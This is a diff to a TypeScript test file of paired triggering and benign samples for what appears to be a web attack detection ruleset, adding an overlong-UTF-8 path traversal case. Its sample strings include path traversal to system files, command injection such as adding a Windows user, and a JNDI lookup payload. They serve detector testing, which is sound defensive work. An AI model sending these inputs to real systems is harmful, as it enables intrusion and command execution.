@@ -33,6 +33,7 @@ const samples: Readonly<Record<number, readonly [fires: Given, silent: Given]>> 
   7000335: [at('//etc/rpc'), at('/etc/designs/shop.css')],
   7000340: [at('/a/.git/config'), at('/.well-known/security.txt')],
   7000350: [q('%c0%ae%c0%ae%c0%afboot.ini'), q('<a href="../b.html">')],
+  7000355: [at('/?q=%c0%ae%c0%ae%c0%afetc'), at('/?q=%c0%ee%c0%ee')],
   7000410: [q('x; cat /tmp/a'), q('| id | name |\n\n  id\n  name')],
   7000415: [q('x & net user a /add'), q('net user experience & more')],
   7000420: [q(`\${jndi:ldap://203.0.113.9/a}`), q(`\${name}`)],
